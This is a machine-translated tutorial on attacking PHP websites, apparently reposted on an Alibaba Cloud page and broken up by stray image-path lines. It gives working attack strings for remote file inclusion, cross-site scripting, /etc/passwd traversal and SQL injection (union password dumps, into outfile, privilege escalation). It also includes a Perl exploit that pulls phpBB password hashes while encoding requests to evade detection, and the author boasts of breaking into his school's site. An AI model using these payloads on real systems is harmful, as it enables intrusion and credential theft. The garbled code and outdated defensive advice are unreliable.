Summary of PHP website vulnerabilities _ PHP Tutorial

Source: Internet
Author: User
Tags md5 hash php website sql injection password
Summary of PHP website vulnerabilities. From the perspective of network security, the most common WEB page vulnerabilities are ASP. in this regard, John is an expert and I have no right to speak. however, in terms of PHP

From the perspective of network security, the most common WEB page vulnerabilities are ASP. in this regard, John is an expert and I have no right to speak. however, there are also serious security problems in PHP, but there are not many articles in this regard. here, I 'd like to discuss with you a little bit about the vulnerabilities on the PHP page.
I have summarized common PHP vulnerabilities, including file vulnerabilities, script command execution vulnerabilities, file leaks, and SQL injection vulnerabilities. of course, some common technologies such as COOKIE spoofing will not be discussed here, and there are many such information on the Internet. let's analyze how to exploit these vulnerabilities one by one!
First, we will discuss the file inclusion vulnerability. this vulnerability should be unique to PHP. this is due to insufficient processing of external malicious data, which allows remote attackers to exploit these vulnerabilities to execute arbitrary commands on the system with WEB process permissions. let's look at an example: suppose in. php has the following code:
Include ($ include. "/xxx. php \");
In this code, $ include is generally a set path, but we can construct a path to achieve the attack purpose. for example, we submit a. php? Include = http: // web/B. php, this web is the space we use for attacks, of course, B. php is the code we use to attack. we can. php writes code similar topassthru ("/bin/ls/etc. in this way, you can execute some targeted attacks. (Note: The web server should not be able to execute php code, or else there will be a problem. for more information, see < <如何对php程序中的常见漏洞进行攻击> >). There are many issues with this vulnerability, for example, PayPal Store Front,
HotNews, Mambo Open Source, PhpDig, yabb se, phpBB, InvisionBoard, solmetra spaw Editor, Les Visiteurs, PhpGedView, X-Cart, and so on.
Next, let's take a look at the script command execution vulnerability. this is because the URI parameters submitted by the user are not fully filtered. submitting data containing malicious HTML code can trigger cross-site scripting attacks and obtain sensitive information of the target user. We also give an example: the index. PHP page in PHP 4.3.1 or earlier versions of PHP Transparent does not fully filter PHPSESSID. we can use this code to attack:
Http: // web/index. php? PHPSESSID = "> script... in script, we can construct functions to obtain some sensitive information of users. in terms of this vulnerability, PHP Transparent, PHP-Nuke, phpBB, PHP Classifieds, PHPix, Ultimate PHP Board, and so on.
Next, let's look at the file leakage vulnerability. this vulnerability is due to the lack of adequate filtering for user submitted parameters. remote attackers can exploit it to perform directory traversal attacks and obtain some sensitive information. Let's take phpMyAdmin as an example. in phpMyAdmin, export. the php page does not fully filter what parameters are submitted by users. remote attackers submit multiple parameters .. /character data, attackers can bypass the web root restriction and view any file information on the system with WEB permissions. For example, enter an address: export. php? What = .. /.. /.. /.. /.. /.. /etc/passwd % 00 can cause file leakage. in this regard, there are more: myPHPNuke, McNews and so on.
Finally, we have to go back to the most exciting place. think about howcool we usually use SQL injection on asp pages. in the past, we had to manually inject it until Xiaozhu realized "SQL injection password" (), and then developed NBSI, our NB-consortium is really pulling a piece of sky. he has helped major websites such as CSDN, monopoly forums, and China channels to identify vulnerabilities. (I'm not talking about this nonsense anymore. it's just a bit out of question ...). in fact, SQL injection in asp is roughly the same as SQL injection in php, but just pay attention to several functions. change asc to ASCII, len to LENGTH, and other functions remain unchanged. in fact, we see php SQL injection, will you think of PHP-NUKE and PHPBB? Good, as the saying goes,tree tricks, forums like mobile networks should be the king of vulnerabilities in the asp community. this doesn't mean that their forums are too secure, but they are too famous, when others use more, more people will study, and more security vulnerabilities will be discovered. the same is true for PHPBB. for a large part of PHP forums, PHPBB is generally used. its vulnerabilities have also been discovered, from the earliest phpBB 1.4.0 versions, to the latest phpBB 2.0.6 version of groupcp. php and search. php, profile. php, viewtopic. php and so on. it may look like a dozen. this has also led to some people who will use php as an experimental product when studying php vulnerabilities. The so-called best practice makes it possible. I believe that PHPBB will become better and better in the future.
Okay. let's analyze the cause of the vulnerability. viewtopic. for the php page, because viewtopic is called. in php, the "topic_id" is obtained directly from the GET request and passed to the SQL query command without filtering. attackers can submit special SQL strings to obtain the MD5 password, this password can be used for automatic logon or brute-force cracking. (I think no one will want to crack it, unless there is a particularly important reason). first look at the relevant source code:
# $ Topic_id = intval ($ HTTP_GET_VARS [POST_TOPIC_URL]);
# Else if (isset ($ HTTP_GET_VARS [topic])
# $ Topic_id = intval ($ HTTP_GET_VARS [topic]);
We can see from the above that, if the submitted view = newest and sid has set a value, the query code executed will look like the following (if you have not read the source code of PHPBB, we recommend that you check the affected systems: phpBB 2.0.5 and phpBB 2.0.4 ).

# $ SQL ="select p. post_id
# Where s. session_id = $ session_id
# AND u. user_id = s. session_user_id
# AND p. topic_id = $ topic_id
# AND p. post_time> = u. user_lastvisit
# Order by p. post_time ASC
# LIMIT 1 ";

Rick provides the following code for the disconnection test:

Use IO: Socket;
$ Remote = shift | localhost;
$ View_topic = shift |/phpBB2/viewtopic. php;
$ Uid = shift | 2;
$ Port = 80;
$ Dbtype = mysql4; # mysql4 or pgsql
Print "Trying to get password hash for uid $ uid server $ remote dbtype: $ dbtype ";
$ P = "";
For ($ index = 1; $ index <= 32; $ index ++ ){
$ Socket = IO: Socket: INET-> new (PeerAddr => $ remote,
PeerPort => $ port,
Proto => "tcp ",Or die "Couldnt connect to $ remote: $ port: $ @";
$ Str = "GET $ view_topic "."? Sid = 1 & topic_id =-1 ". random_encode (make_dbsql ()." & view = newest "." HTTP/1.0 ";
Print $ socket $ str;
Print $socket "Cookie: phpBB2mysql_sid = 1"; # replace this for pgsql or remove it
Print $ socket "Host: $ remote ";
While ($ answer = <$ socket> ){
If ($ answer = ~ /Location:. * x23 (d +)/) # Matches the location: viewtopic. php? P = # {
$ P. = chr ();
Close ($ socket );
Print "MD5 Hash for uid $ uid is $ p ";
# Random encode str. helps avoid detection
Sub random_encode {
$ Str = shift;
$ Ret = "";
For ($ I = 0; $ I $ C = substr ($ str, $ I, 1 );
$ J = rand length ($ str) * 1000;
If (int ($ j) % 2 | $ c eq ){
$ Ret. = "%". sprintf ("% x", ord ($ c ));
} Else {
$ Ret. = $ c;
Return $ ret;
Sub make_dbsql {
If ($ dbtype eq mysql4 ){
Return "union select ord(substring (user_password,". $ index. ", 1) from phpbb_users where user_id = $ uid /*";
} Elsif ($ dbtype eq pgsql ){
Return "; select ascii (substring (user_password from $ index for 1) as post_id from phpbb_posts p, phpbb_users u where u. user_id = $ uid or false ";
} Else {
Return "";

This code is broken and I will not explain it more. The function is to get the HASH value.
You may have some questions about why the changed functions I mentioned earlier are useless. I am not afraid of jokes: in fact, the query statements on some pages of many websites on the internet look like this:
Display. php? Sqlsave = select + * + from + aaa + where + xx= yy + order + by + bbb + desc
Don't laugh. this is true. I have been to several large websites. it is hard to tell which one, but I rely on this to go to the back-end for our school website (I hope the school's network center will not see this article, ^_^ ). use the previous function. otherwise, you have to change the password !!!
I almost forgot that PHP is different from ASP in SQL injection. mysql is not flexible in SQL statement usage. therefore, many query statements that can be used in mssql cannot work in mysql databases. the common injection statements are as follows: aaa. php? Id = a into outfile pass.txt or aaa. php? Id = a into outfilepass.txt/* can be changed to aaa. php? Id = a or 1 = 1 union select id, name, password form users into outfile c:/a.txt
In this way, you can export the database data as a file and view it.
Or: mode =, user_level = 4
This statement is generally used to modify data. if a vulnerability exists on the page, the permission can be upgraded.
Others, such as OR 1 = 1 -- or: 1 OR 1 = 1, are similar to asp. I will not talk about it here. in php, SQL injection seems to be the first vulnerability. too many pages have this problem.
As you can see, there is only one reason for the classification above: the submitted parameters are not filtered or the filtering is not rigorous. the black line of defense has always been under attack and defense. here, let's take a rough look at the preventive methods.First of all, I personally think the most important thing is to set magic_quotes_gpc to ON. it is used to convert single quotes, double quotation marks, backslash, and empty characters into characters containing backslash, for example, in the select * from admin where username = $ username and password = $ password statement, an attacker wants toskip verification with 1 or 1 = 1. However, the strings will be converted to the following:select * from admin where username = a and password = 1 or 1 = 1 to prevent injection. In fact, theaddslashes () operation is automatically performed. if not, define function processing. now


Contact Us

The content source of this page is fromInternet, which doesn't represent Alibaba Cloud's opinion; products and services mentioned on that page don't have any relationship withAlibaba Cloud. If the content of the pagemakes you feel confusing, please write us an email, we will handle the problem within 5 days after receiving your email.

If you find any instances of plagiarism from the community, please send an email to: and provide relevant evidence. A staff member willcontact you within 5 working days.

A Free Trial That Lets You Build Big!

Start building with 50+ products and up to 12 months usage for Elastic Compute Service

  • Sales Support

    1 on 1 presale consultation

  • After-Sales Support

    24/7 Technical Support 6 Free Tickets per Quarter Faster Response

  • Alibaba Cloud offers highly flexible support services tailoredto meet your exact needs.